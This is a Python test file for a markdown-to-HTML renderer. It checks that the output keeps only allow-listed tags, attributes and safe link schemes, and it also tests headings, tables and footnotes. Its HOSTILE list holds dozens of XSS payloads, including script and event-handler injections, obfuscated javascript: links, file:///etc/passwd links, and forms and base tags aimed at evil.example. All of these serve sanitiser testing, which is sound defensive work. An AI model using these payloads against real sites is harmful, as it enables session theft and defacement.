import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from builder import urls
from builder.markup import plain_text, render
from tests.examples import examples

TAGS = re.compile(
    r"a|abbr|b|blockquote|br|caption|cite|code|dd|del|dfn|div|dl|dt|em|h[2-6]|hr|i|ins|kbd|li|ol|p"
    r"|pre|q|s|small|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|ul"
)
ATTRIBUTES = frozenset(["href", "title", "id", "class", "rel", "start", "tabindex"])
CLASSES = frozenset(
    ["footnote", "footnote-ref", "footnote-backref", "table-scroll"]
    + [f"align-{side}" for side in ("left", "center", "right")]
)


class Outlaws(HTMLParser):
    """Collects what an HTML parser finds beyond the allow-list."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if not TAGS.fullmatch(tag):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            self._check(name, value or "")

    def _check(self, name: str, value: str) -> None:
        if name not in ATTRIBUTES or (name == "class" and not CLASSES.issuperset(value.split())):
            self.found.append(f"{name}={value}")
        # Browsers ignore tabs, line ends and leading control characters in an address.
        address = re.sub(r"[\t\r\n]", "", value).lstrip("".join(map(chr, range(33))))
        if name == "href" and urlsplit(address).scheme not in {"", "http", "https", "mailto"}:
            self.found.append(f"{name}={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}")


def from_page(target: str) -> str:
    return urls.relative(target, here="articles/fall/comet.html")


def html(source: str) -> str:
    return render(source, link=from_page)


def outlaws(source: str) -> list[str]:
    parser = Outlaws()
    parser.feed(html(source))
    parser.close()
    return parser.found


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/pixel.gif "t")',
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<p style='position:fixed' onclick=alert(1)>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#9;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://many.example/1)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example '\"onmouseover=\"alert(1)')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[1]: data:text/html,x 'title'\n\n[1]",
    "<javascript:alert(1)>",
    "<https://a.example/\"onclick='x'>",
    "# <img src=x onerror=alert(1)> {#x onclick=alert(1)}",
    "| a |\n|---|\n| <b onclick=x>y</b> |",
    "[^<script>]: <script>x</script>\n\n[^<script>]",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03",
    "<b>bold</b> <form action=//evil.example><input name=q>",
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
]


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_outside_the_allow_list_comes_out(source: str) -> None:
    assert outlaws(source) == []


@examples(60)
@given(st.lists(st.sampled_from([*HOSTILE, "*", "_", "[", "](", ")", "<", ">", '"', "`", "\n"])))
def test_no_mixture_of_hostile_texts_gets_through(parts: list[str]) -> None:
    assert outlaws("".join(parts)) == []


@examples(60)
@given(st.text(alphabet="[]()<>!*_`\"'&;:#|-=^~ \n\t\\abjs/.x1\u200f\u202e\x00\x02\x03"))
def test_no_text_gets_through(source: str) -> None:
    assert outlaws(source) == []


@examples(60)
@given(st.text(alphabet="jJavscript:\t\n &#;x0169data/%\x01\u200b", max_size=40))
def test_no_address_gets_through(address: str) -> None:
    assert outlaws(f"[x]({address}) [y](<{address}>) <{address}>\n\n[x]: {address}\n\n[x]") == []


def test_raw_html_is_shown_as_text() -> None:
    assert html("A <b>bold</b> & <i>claim</i>") == (
        "<p>A &lt;b&gt;bold&lt;/b&gt; &amp; &lt;i&gt;claim&lt;/i&gt;</p>"
    )


def test_a_link_to_another_page_is_made_relative() -> None:
    assert html("[it](/events/fall.html#claims)") == (
        '<p><a href="../../events/fall.html#claims" rel="nofollow noopener">it</a></p>'
    )


def test_a_link_to_elsewhere_stays() -> None:
    assert 'href="https://a.example/?x=1&amp;y=2"' in html("[it](https://a.example/?x=1&y=2)")


def test_an_image_is_left_out() -> None:
    assert "img" not in html("Before ![map](https://a.example/map.png) after")


def test_headings_start_below_the_title_and_leave_no_gap() -> None:
    assert html("# One\n\n### Two\n\n# One") == (
        '<h2 id="one">One</h2>\n<h3 id="two">Two</h3>\n<h2 id="one-2">One</h2>'
    )


def test_headings_in_any_script_have_anchors() -> None:
    assert html("## Что случилось?\n\n## 大桥\n\n## !!!") == (
        '<h2 id="что-случилось">Что случилось?</h2>\n<h2 id="大桥">大桥</h2>\n'
        '<h2 id="section">!!!</h2>'
    )


def test_a_prefix_keeps_the_anchors_of_two_texts_apart() -> None:
    assert 'id="x-one"' in render("# One", link=from_page, id_prefix="x-")


def test_tables_and_footnotes_work() -> None:
    made = html("| a | b |\n|---|--:|\n| 1 | 2 |\n\nA fact.[^1]\n\n[^1]: Its place.")
    assert "<td>1</td>" in made
    assert 'href="#fn-1"' in made
    assert 'id="fn-1"' in made
    assert 'href="#fnref-1"' in made


def test_text_that_runs_from_right_to_left_is_left_alone() -> None:
    assert html("قال: *الجسر* \u200fسقط.") == "<p>قال: <em>الجسر</em> \u200fسقط.</p>"


def test_an_empty_text_is_no_html() -> None:
    assert html(" \n") == ""


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("# Head\n\nOne *two*\nthree.", "Head One two three."),
        ("- a\n- b\n\n| c | d |\n|---|---|\n| e | f |", "a b c d e f"),
        ("A [link](https://a.example) & <b>tag</b>", "A link & <b>tag</b>"),
        ("大*桥*在", "大桥在"),
        ("", ""),
    ],
)
def test_plain_text_is_the_words_alone(source: str, words: str) -> None:
    assert plain_text(source) == words


def test_a_table_wider_than_the_page_can_be_scrolled_by_keyboard() -> None:
    assert '<div class="table-scroll" tabindex="0"><table>' in html("| a |\n|---|\n| b |")


def test_columns_are_aligned_by_class_because_pages_allow_no_inline_style() -> None:
    table = html("| a | b |\n|--:|:-:|\n| 1 | 2 |")
    assert '<th class="align-right">a</th>' in table
    assert '<td class="align-center">2</td>' in table
    assert "style" not in table
